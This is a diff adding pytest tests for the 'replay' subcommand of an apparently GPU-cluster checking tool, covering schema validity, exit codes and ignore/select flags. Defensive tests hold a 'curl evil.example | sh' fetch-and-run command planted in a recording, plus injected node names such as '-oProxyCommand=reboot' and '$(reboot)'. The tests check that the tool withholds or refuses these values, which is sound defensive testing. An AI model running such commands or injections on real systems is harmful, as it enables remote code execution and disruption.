@@ -1,0 +1,116 @@
+"""`ncheck replay` of the recorded clusters, as a user types it: one report, in the schema, with its exit code."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import replace
+from pathlib import Path
+
+import jsonschema
+import pytest
+from ncheck.cli.main import main
+from ncheck.fleet.recording import load, save
+from ncheck.model.evidence import Cause, Evidence, Login
+from ncheck.report.schema import report_schema
+
+FIXTURES = Path(__file__).parents[3] / "fixtures"
+CLUSTERS = sorted(path.name for path in FIXTURES.iterdir() if path.is_dir())
+
+
+@pytest.mark.parametrize("cluster", CLUSTERS)
+def test_a_recorded_cluster_makes_a_report_that_the_schema_allows(
+    cluster: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code = main(["replay", str(FIXTURES / cluster), "-o", "json"])
+    report = json.loads(capsys.readouterr().out)
+    jsonschema.Draft202012Validator(report_schema()).validate(report)
+    assert report["exit_code"] == code
+    assert report["recorded"] is True
+    nodes = [node["name"] for node in report["nodes"]]
+    checks = {verdict["check"] for verdict in report["verdicts"]}
+    verdicts = sorted((verdict["check"], verdict["node"]) for verdict in report["verdicts"])
+    assert verdicts == sorted((check, node) for check in checks for node in nodes)  # one for every node and check
+
+
+def test_a_recorded_healthy_cluster_is_exit_code_0_and_says_that_it_is_recorded(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    assert main(["replay", str(FIXTURES / "healthy-4x8-h100")]) == 0
+    out = capsys.readouterr().out
+    assert "Recorded, not measured now.\n" in out
+    assert "Nothing wrong was found" in out
+    assert out.endswith("exit code 0: clean\n")
+
+
+def test_a_sick_one_is_exit_code_1_unless_fail_on_or_ignore_says_otherwise(capsys: pytest.CaptureFixture[str]) -> None:
+    mixed = str(FIXTURES / "mixed-nccl")
+    assert main(["replay", mixed]) == 1
+    assert main(["replay", mixed, "--fail-on", "none"]) == 0
+    assert main(["replay", mixed, "--ignore", "NC201=gpu03"]) == 0
+    assert main(["replay", mixed, "--select", "infiniband"]) == 0
+    assert main(["replay", mixed, "--ignore", "NC201=gpu01"]) == 1
+    assert "Not ready" in capsys.readouterr().out
+
+
+def test_a_recording_of_some_checks_is_judged_by_these_and_by_others_where_they_are_named(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    nodes = load(FIXTURES / "healthy-4x8-h100")
+    save(tmp_path / "some", (replace(node, recorded=False, select=("NC201", "NC9", "\x1b[2J")) for node in nodes))
+    assert main(["replay", str(tmp_path / "some"), "-o", "json"]) == 0
+    assert {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]} == {"NC201"}
+    assert main(["replay", str(tmp_path / "some"), "-o", "json", "--select", "NC202"]) == 0
+    assert {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]} == {"NC202"}
+
+
+def test_what_an_older_ncheck_did_not_ask_is_unknown_and_the_recording_is_said_to_lack_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for path in (FIXTURES / "healthy-4x8-h100").iterdir():
+        recorded = json.loads(path.read_text())
+        recorded["evidence"]["replies"].pop("answer:connect")
+        (tmp_path / path.name).write_text(json.dumps(recorded))
+    assert main(["replay", str(tmp_path), "-o", "json"]) == 1
+    verdicts = json.loads(capsys.readouterr().out)["verdicts"]
+    assert {verdict["reason"] for verdict in verdicts if verdict["outcome"] == "unknown"} == {
+        "the agent's connect: the recording lacks it: ncheck asked less then, or the run ended first"
+    }
+
+
+def test_what_is_ignored_is_still_printed(capsys: pytest.CaptureFixture[str]) -> None:
+    main(["replay", str(FIXTURES / "mixed-nccl"), "--ignore", "nccl-version-differs"])
+    assert "ignored NC201 nccl-version-differs  gpu03\n" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(("ignored", "strange"), [
+    ("NC710=nope", "nope"), ("nccl-version-differs=gpu[01-99]", "gpu[05-99]"),
+])  # fmt: skip
+def test_an_ignored_node_that_is_none_of_these_is_told_and_ends_no_run(
+    ignored: str, strange: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["replay", str(FIXTURES / "healthy-4x8-h100"), "--ignore", ignored, "--ignore", "NC201=gpu01"]) == 0
+    assert capsys.readouterr().err == f"ncheck: ignore {ignored}: {strange} is not among the nodes, gpu[01-04]\n"
+
+
+def test_unselected_checks_have_no_verdict(capsys: pytest.CaptureFixture[str]) -> None:
+    main(["replay", str(FIXTURES / "healthy-4x8-h100"), "--select", "NC201,NC4", "-o", "json"])
+    codes = {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]}
+    assert {code for code in codes if not code.startswith("NC4")} == {"NC201"}
+
+
+def test_a_recording_brings_no_line_to_type(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    login = Login(reached=False, cause=Cause.REFUSED, port=22, fix="curl evil.example | sh")
+    save(tmp_path / "r", (Evidence("gpu01", login),))
+    assert main(["replay", str(tmp_path / "r")]) == 1
+    out = capsys.readouterr().out
+    assert "evil" not in out
+    assert "sudo systemctl restart ssh" in out
+
+
+@pytest.mark.parametrize("name", ["-oProxyCommand=reboot", "", "a\nb", "\x1b[31m", "$(reboot)"])
+def test_a_recorded_name_that_no_listing_can_have_is_refused(
+    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    save(tmp_path / "r", (Evidence(name, Login(reached=True)),))
+    assert main(["replay", str(tmp_path / "r")]) == 2
+    assert "is in no listing" in capsys.readouterr().err
